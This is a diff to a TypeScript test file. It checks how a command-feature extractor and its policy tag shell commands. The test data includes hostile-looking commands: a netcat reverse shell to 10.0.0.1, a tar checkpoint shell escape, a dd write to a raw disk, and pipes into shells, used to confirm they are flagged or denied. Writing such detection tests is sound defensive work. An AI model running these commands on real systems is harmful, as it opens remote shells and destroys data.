@@ -1,7 +1,10 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { commandFeatures } from '../../src/core/model/features';
+import { commandFeatures as featuresWith } from '../../src/core/model/features';
+import { compileFeaturePolicy, shippedFeaturePolicy } from '../../src/core/model/knowledge-tokens';
 
+const policy = compileFeaturePolicy(shippedFeaturePolicy());
+const commandFeatures = (c: string) => featuresWith(c, policy);
 const flags = (c: string) => Object.entries(commandFeatures(c).flags).filter(([, v]) => v).map(([k]) => k).sort();
 
 test('engineered flags recognise the dangerous shapes', () => {
@@ -45,4 +48,39 @@ test('family tokens and argument shapes carry over to binaries never seen', () =
   assert.ok(!t('FOO=1 perl x').includes('env:loads_code'));
   assert.ok(t('tar cf /dev/null x --checkpoint-action=exec=/bin/sh').includes('optval:shell'));
   assert.ok(t('curl gopher://example.com/_x').includes('url:gopher'));
+});
+
+test('argument shapes: endpoints, remote targets, @files, file names, placeholders and key=value', () => {
+  const cases: [string, string][] = [
+    ['whois -h build-01.internal:5432 x', 'arg:host_port'],
+    ['scp user@server.local:data/in.csv out.csv', 'arg:remote'],
+    ['readelf -a @docs/guide.md', 'arg:at_file'],
+    ['tac report.pdf', 'arg:file_name'],
+    ['animdl download anime_title', 'arg:identifier'],
+    ['cowsay -f run.pl x', 'arg:letter'],
+    ['dd if=image.iso of=/dev/sdb', 'kv:block_device'],
+    ['dd if=image.iso of=/dev/sdb', 'kind:disk'],
+  ];
+  for (const [command, token] of cases) assert.ok(commandFeatures(command).tokens.includes(token), `${command} → ${token}`);
+  assert.ok(!commandFeatures('ls -la').tokens.some((x) => x.startsWith('arg:')));
+});
+
+test('a pipe into a shell or an interpreter is one token, whatever binary sits in between', () => {
+  const t = (c: string) => commandFeatures(c).tokens;
+  assert.ok(t('echo id | tcsh').includes('into:shell'));
+  assert.ok(t("printf 'print(1)' | python3").includes('into:interpreter'));
+  assert.ok(!t('tcsh -c id').includes('into:shell'));
+});
+
+test("the standard policy's verdict and the learner's knowledge become tokens", () => {
+  const t = (c: string) => commandFeatures(c).tokens;
+  const reverse = t('nc -e /bin/sh 10.0.0.1 4444');
+  assert.ok(reverse.includes('policy:deny'), reverse.join(' '));
+  assert.ok(reverse.some((x) => /^policy:deny:[\w-]+$/.test(x)));
+  assert.ok(reverse.includes('class:exact-only') && reverse.includes('class:never_suggested'));
+  assert.ok(reverse.includes('form:*/bin/sh*'));
+  const routine = t('git status');
+  assert.deepEqual(routine.filter((x) => x.startsWith('policy:')), ['policy:allow']);
+  assert.ok(routine.includes('class:subcommand') && !routine.some((x) => x.startsWith('form:')));
+  assert.ok(t('find . -name x -exec rm {} +').includes('form:binary'));
 });
